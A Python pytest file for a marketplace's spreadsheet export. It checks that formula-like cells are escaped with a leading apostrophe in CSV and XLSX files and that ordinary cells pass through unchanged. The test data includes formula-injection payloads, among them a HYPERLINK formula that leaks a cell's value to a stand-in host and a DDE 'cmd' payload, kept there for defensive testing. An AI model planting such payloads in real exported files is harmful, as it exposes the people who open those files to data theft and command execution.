"""No cell of a file that we write can become a formula."""

import csv
import io

import pytest
from openpyxl import load_workbook

from marketplace.spreadsheets import as_written, csv_lines, harmless, xlsx_file

COMPUTED = (
    "=1+1",
    '+A1&HYPERLINK("http://x.example?"&B1,"Trà")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
)


@pytest.mark.parametrize("cell", COMPUTED)
def test_what_a_spreadsheet_would_compute_is_shown_as_it_was_written(cell: str) -> None:
    [read] = csv.reader(io.StringIO("".join(csv_lines([[cell]])).removeprefix("\ufeff")))
    shown = load_workbook(io.BytesIO(xlsx_file([[cell]]))).active["A1"]

    assert read == [harmless(cell)] == [f"'{cell}"]
    assert (shown.value, shown.data_type) == (f"'{cell}", "s")
    assert as_written(harmless(cell)) == cell


@pytest.mark.parametrize("cell", ["Trà A-ti-sô", "'tốt'", "", 150_000, -1, None])
def test_other_cells_stay_as_they_are(cell: object) -> None:
    assert harmless(cell) == cell
    assert as_written(str(cell)) == str(cell)
